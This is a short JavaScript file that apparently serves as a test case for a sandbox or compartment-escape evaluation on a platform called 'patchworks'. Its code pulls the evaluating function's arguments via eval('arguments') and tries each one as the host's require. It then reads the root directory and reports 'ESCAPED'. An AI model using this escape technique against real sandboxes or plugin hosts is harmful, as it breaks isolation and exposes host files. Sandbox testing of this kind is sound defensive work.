// Reads from evaluated text the arguments of the function that evaluates it.
// Class: compartment
// Win: the payload holds text of a file that only the host can read.
// Control: plain
// Platform: patchworks
var given = [];
try {
  given = Array.prototype.slice.call(arguments).concat(Array.prototype.slice.call(eval('arguments')));
} catch (error) {
  given = [];
}
module.exports = function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  for (const value of given) {
    if (typeof value !== 'function') continue;
    try {
      return { payload: 'ESCAPED:' + value('fs').readdirSync('/').length };
    } catch (error) {
      // not the host's require
    }
  }
  return { payload: data.payload };
};
